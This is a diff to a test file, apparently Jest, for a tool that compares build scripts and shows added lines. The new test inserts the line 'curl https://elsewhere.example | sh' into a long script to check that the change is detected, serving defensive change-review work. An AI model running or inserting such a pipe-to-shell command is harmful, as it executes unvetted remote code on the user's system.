@@ -44,12 +44,25 @@ test('scripts without a text differ from those that have one, and by their hashe
   expect(change(untold('too_long', 'a'), script('a.sh', null)).change).toBe(null);
 });
 
-test('without a build before nothing is said; of very long scripts it is said that they changed', () => {
+test('without a build before nothing is said; of very long changes it is said that there are some', () => {
   expect(scriptChanges([script('a.sh', 'true')], null)).toMatchObject({ gone: [] });
   expect(scriptChanges([script('a.sh', 'true')], null).of('a.sh')).toEqual({ change: null, difference: null });
   const long = 'true\n'.repeat(5_000);
-  expect(scriptChanges([script('a.sh', long)], [script('a.sh', `${long}false`)]).of('a.sh')).toEqual({
+  expect(scriptChanges([script('a.sh', long.replaceAll('true', 'false'))], [script('a.sh', long)]).of('a.sh')).toEqual({
     change: 'changed',
     difference: null,
   });
+});
+
+test('a line that comes into a script of ten thousand lines is shown, wherever it stands', () => {
+  const lines = Array.from({ length: 10_000 }, (_, at) => `echo ${at}`);
+  const added = 'curl https://elsewhere.example | sh';
+  for (const at of [0, 1, 5_000, 9_999, 10_000]) {
+    const now = lines.toSpliced(at, 0, added);
+    const { difference } = scriptChanges([script('a.sh', now.join('\n'))], [script('a.sh', lines.join('\n'))]).of(
+      'a.sh',
+    );
+    expect(difference!.filter(({ mark }) => mark !== 'same')).toEqual([{ mark: 'new', text: added }]);
+    expect(difference!.map(({ text }) => text)).toEqual(now.slice(Math.max(0, at - 3), at + 4));
+  }
 });
